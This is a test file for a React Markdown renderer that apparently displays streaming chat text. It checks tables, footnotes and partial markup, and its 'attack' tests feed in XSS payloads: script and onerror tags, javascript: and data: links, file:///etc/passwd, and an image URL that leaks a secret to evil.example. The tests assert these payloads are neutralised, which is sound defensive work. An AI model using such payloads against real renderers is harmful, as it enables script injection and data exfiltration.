import { I18nProvider } from '@lingui/react'
import { renderToStaticMarkup } from 'react-dom/server'
import { expect, test } from 'vitest'
import { createI18n } from '../i18n/i18n.ts'
import { MarkdownImpl } from './markdown-impl.tsx'

const i18n = createI18n()
const render = (text: string, isGrowing = false) =>
  renderToStaticMarkup(
    <I18nProvider i18n={i18n}>
      <MarkdownImpl text={text} isGrowing={isGrowing} />
    </I18nProvider>,
  )
/** The element names. Text is escaped, so it cannot match. */
const tags = (html: string) => [...html.matchAll(/<([a-z0-9]+)/gu)].map(([, name]) => name)

test('raw HTML renders as text (attack F1)', () => {
  const html = render('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <b>bold</b> <iframe src="//evil.example">')
  expect(html).not.toMatch(/<(?:script|img|iframe|b)[\s>]/u)
  expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
})

test.each([
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/path)',
  '[x](/trpc/conversations.delete)',
  '<javascript:alert(1)>',
  '[x][1]\n\n[1]: javascript:alert(1)',
])('%s is not a link (attack F2)', (text) => {
  expect(tags(render(text))).not.toContain('a')
})

test.each([
  ['[x](https://a.example/b?c=d)', 'https://a.example/b?c=d'],
  ['[x](http://a.example)', 'http://a.example'],
  ['[x](mailto:a@b.example)', 'mailto:a@b.example'],
  ['[x](tel:+358401234)', 'tel:+358401234'],
  ['https://a.example', 'https://a.example'],
  ['[x][1]\n\nbetween\n\n[1]: https://a.example', 'https://a.example'],
])('%s links to %s without an opener or referrer, and shows where it leads (attacks F2, F10)', (text, address) => {
  const shown = text === address ? '' : ` title="${address}"`
  expect(render(text)).toContain(`<a href="${address}" target="_blank" rel="noopener noreferrer nofollow"${shown}>`)
})

test.each(['![secret](https://evil.example/?q=secret)', '![secret][1]\n\n[1]: https://evil.example/?q=secret'])(
  'the picture %s is not fetched; a button names where it is (attack F3)',
  (text) => {
    const html = render(text)
    expect(tags(html).filter((name) => ['img', 'iframe', 'link', 'source', 'picture'].includes(name ?? ''))).toEqual([])
    expect(html).toContain('Show image: secret (evil.example)')
  },
)

test('an image of this page, or without an address, renders its description', () => {
  expect(tags(render('![a](/trpc/x) ![b](data:image/svg+xml;base64,AAAA)'))).toEqual(['div', 'p', 'span', 'span'])
})

test('code keeps every character, and its language is not in its text', () => {
  const html = render('```ts\nconst a = "<b>" && 1\n\n  indented\n```')
  expect(html).toContain('<code><span class="block">const a = &quot;&lt;b&gt;&quot; &amp;&amp; 1\n\n  indented</span></code>')
  expect(html).toContain('data-language="ts"')
})

test('tables scroll in their own container and are reachable with the keyboard', () => {
  expect(render('|a|b|\n|-|-|\n|1|2|')).toMatch(
    /<div class="overflow-x-auto" role="region" aria-label="Table" tabindex="0"><div><table dir="auto">/u,
  )
})

test.each([
  ['**bold', '<strong>bold</strong>'],
  ['some `code', '<code dir="ltr">code</code>'],
  ['see [the link](https://a.exam', 'the link'],
  ['~~gone', '<del>gone</del>'],
])('a growing %s renders as the completed element', (text, expected) => {
  const html = render(text, true)
  expect(html).toContain(expected)
  expect(html).not.toMatch(/streamdown|https:|\*\*|~~/u)
})

test('a finished text shows its unclosed marks', () => {
  expect(render('**bold')).toContain('**bold')
})

test('every token of a growing text appears once, at every length', () => {
  const tokens = Array.from({ length: 60 }, (_, index) => `t${index + 1}`)
  for (let count = 1; count <= tokens.length; count += 1) {
    const text = render(tokens.slice(0, count).join(' '), true).replace(/<[^>]+>/gu, '')
    expect(text.trim().split(' ')).toEqual(tokens.slice(0, count))
  }
})

test.each([
  ['**', ''],
  ['some **', 'some'],
  ['some **bold*', 'some bold'],
  ['- [', ''],
  ['- one\n- ', 'one'],
  ['- one\n-', 'one'],
  ['Text\n-', 'Text'],
  ['Text\n---', 'Text'],
  ['1', ''],
  ['1.', ''],
  ['#', ''],
  ['##', ''],
  ['``', ''],
  ['```', ''],
  ['```type', ''],
  ['see [', 'see'],
  ['see [the', 'see the'],
  ['see [the](', 'see the'],
  ['see ![a pic', 'see'],
  ['see <https://exa', 'see'],
  ['| a | b', ''],
  ['| a | b |', ''],
  ['[ref]: https://exam', ''],
  ['Text\n\n[1]', 'Text'],
  ['so $\\alpha +', 'so'],
  ['so \\(x +', 'so'],
])('a growing %j shows no marks: %j', (text, expected) => {
  expect(
    render(text, true)
      .replaceAll(/<[^>]+>/gu, '')
      .replaceAll(/\s+/gu, ' ')
      .trim(),
  ).toBe(expected)
})

test('a table renders as a table from its head on, never as text with bars', () => {
  const whole = '| Name | Value |\n| --- | --: |\n| one | 1 |\n'
  for (let length = 1; length <= whole.length; length += 1) {
    const html = render(whole.slice(0, length), true)
    expect(html.replaceAll(/<[^>]+>/gu, ''), `after ${length}`).not.toContain('|')
    if (length > whole.indexOf('\n')) expect(tags(html), `after ${length}`).toContain('table')
  }
})

test('a price is text while the text grows, and stays text', () => {
  const whole = 'It costs $5 today and $1,000.50 tomorrow; US$ 3 was the price.'
  for (let length = 1; length <= whole.length; length += 1) {
    const shown = render(whole.slice(0, length), true).replaceAll(/<[^>]+>/gu, '')
    expect(whole.startsWith(shown)).toBe(true)
    expect(whole.slice(0, length).length - shown.length).toBeLessThanOrEqual(2)
  }
})

test('footnotes are numbered by first reference and link back', () => {
  const html = render('One[^b] two[^a] one again[^b]\n\n[^a]: About **a**\n[^b]: About b\n')
  expect(html).toMatch(/<sup><a id="note-[^"]*fnref-b" [^>]*href="#note-[^"]*fn-b">1<\/a><\/sup> two<sup>/u)
  expect(html).toMatch(/<a id="note-[^"]*fnref-b-2"[^>]*>1<\/a>/u)
  expect(html).toMatch(/<section.*Footnotes.*About b.*Back to reference 1-2.*About <strong>a<\/strong>/su)
})

test('two texts with the same footnotes share no ids', () => {
  const both = renderToStaticMarkup(
    <I18nProvider i18n={i18n}>
      {['first', 'second'].map((name) => (
        <MarkdownImpl key={name} text={`${name}[^1]\n\n[^1]: Note`} />
      ))}
    </I18nProvider>,
  )
  const ids = [...both.matchAll(/ id="([^"]+)"/gu)].map(([, id]) => id)
  expect(ids).toHaveLength(6)
  expect(new Set(ids).size).toBe(6)
})

test('a reference becomes a link as soon as its definition is complete', () => {
  const before = 'See [the note][n] and [N].\n\n- [n]\n\n'
  expect(tags(render(`${before}[n]: https://a.exam`, true))).not.toContain('a')
  expect(tags(render(`${before}[n]: https://a.example\n\nMore`, true)).filter((name) => name === 'a')).toHaveLength(3)
})
